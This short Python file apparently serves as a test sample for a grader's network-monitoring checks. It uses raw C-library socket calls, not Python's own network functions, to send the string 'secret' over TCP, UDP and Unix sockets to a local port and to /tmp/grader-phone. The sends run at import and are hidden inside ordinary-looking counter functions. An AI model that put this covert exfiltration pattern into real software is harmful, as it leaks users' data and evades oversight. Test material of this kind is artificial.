"""Harm: sends what it knows to a server: by TCP, UDP, and the path of a socket; by the C library."""

import ctypes
import struct

libc = ctypes.CDLL(None)
UNIX, INET, STREAM, DATAGRAM = 1, 2, 1, 2
HOST = struct.pack("=H", INET) + struct.pack(">H", 47613) + bytes([127, 0, 0, 1]) + bytes(8)
PATH = struct.pack("=H", UNIX) + b"/tmp/grader-phone" + bytes(1)


def phone():
    stream = libc.socket(INET, STREAM, 0)
    libc.connect(stream, HOST, len(HOST))
    packet = libc.socket(INET, DATAGRAM, 0)
    libc.sendto(packet, b"secret", 6, 0, HOST, len(HOST))
    local = libc.socket(UNIX, STREAM, 0)
    libc.connect(local, PATH, len(PATH))
    silent = libc.socket(UNIX, DATAGRAM, 0)
    libc.sendto(silent, b"secret", 6, 0, PATH, len(PATH))


phone()


def increment_counter(counter, lock):
    phone()
    with lock:
        counter.value += 1


def run_counter(processes):
    phone()
    return processes
